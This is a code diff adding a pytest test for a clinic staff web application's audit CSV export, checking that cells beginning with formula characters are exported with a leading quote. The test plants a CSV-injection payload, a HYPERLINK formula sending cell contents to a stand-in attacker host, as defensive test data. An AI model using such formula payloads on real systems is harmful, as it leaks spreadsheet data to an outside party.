@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import io
 
+import pytest
 from fastapi import FastAPI
 from sqlalchemy import select
 from sqlalchemy.orm import Session
@@ -439,3 +440,24 @@ def test_another_clinics_admin_sets_only_their_own_clinics_prices(app: FastAPI, 
     other.post("/staff/admin/settings", data={**SCHEDULED, "price_tms": "$250 per session"})
     assert _clinic(app, world.clinic_a).prices["tms"] == "$300 per session; a course of 36 is $9,000"
     assert _clinic(app, world.clinic_b).prices == {"tms": "$250 per session"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_audit_csv_never_hands_a_spreadsheet_a_formula(app: FastAPI, world: World, start: str) -> None:
+    """OWASP CSV injection: a cell starting a formula (here an address and a detail an attacker
+    chose) is exported with a leading single quote, so a spreadsheet shows it as text."""
+    formula = start + 'HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    attacker = audit.Actor(kind="anonymous", role="anonymous", clinic_id=world.clinic_a, address=formula)
+    with app.state.sessions.begin() as session:
+        audit.record(session, attacker, "sign_in_failed", "staff", None, detail=formula)
+    rows = list(csv.reader(io.StringIO(signed_in(app, world.admin_a).get("/staff/admin/audit.csv").text)))
+    header, entries = rows[0], rows[1:]
+    [planted] = [
+        dict(zip(header, row, strict=True))
+        for row in entries
+        if row[header.index("action")] == "sign_in_failed"
+    ]
+    assert planted["address"] == planted["detail"] == "'" + formula
+    for row in entries:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
